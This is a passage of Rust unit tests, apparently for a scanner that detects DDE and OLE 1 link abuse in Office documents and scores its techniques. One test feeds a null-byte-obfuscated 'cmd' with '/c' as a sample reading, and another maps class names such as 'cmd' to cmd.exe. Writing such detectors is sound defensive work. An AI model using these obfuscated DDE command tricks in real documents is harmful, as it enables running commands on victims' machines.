                link.target = Some(format!("{first}{second}"));
                link.prog_id = Some((*first).to_owned());
                link.readings.push(reading(first, second, first));
                assert!(judge(link, &Policy::default()).score <= 100);
            }
        }
    }
}

#[test]
fn techniques_of_the_link_come_first_and_once() {
    let mut link = link(Kind::Dde, Carrier::Formula);
    link.add_technique(TechniqueId::FillerCharacters);
    link.readings.push(reading("c\0md", "/c", ""));
    let finding = judge(link, &Policy::default());
    assert_eq!(
        finding.techniques,
        [Technique::from(TechniqueId::FillerCharacters)]
    );
    assert_eq!(rules(&finding), ["interpreter", "filler-characters"]);
}

/// The class of a link of OLE 1 is no program; a path in its place, or a program, is one.
#[test]
fn classes_start_nothing() {
    for (class, image) in [
        ("Word.Document.8", None),
        ("Excel.Sheet.12", None),
        ("Package", None),
        ("cmd", Some("cmd.exe")),
        ("word.exe", Some("word.exe")),
    ] {
        let mut link = link(Kind::DdeAuto, Carrier::Ole1Link);
        link.readings = vec![reading(class, "C:\\a.doc", "")];
        let finding = judge(link, &Policy::default());
        let found = finding.command.and_then(|command| command.image);
        assert_eq!(found.as_deref(), image, "{class}");
    }
}
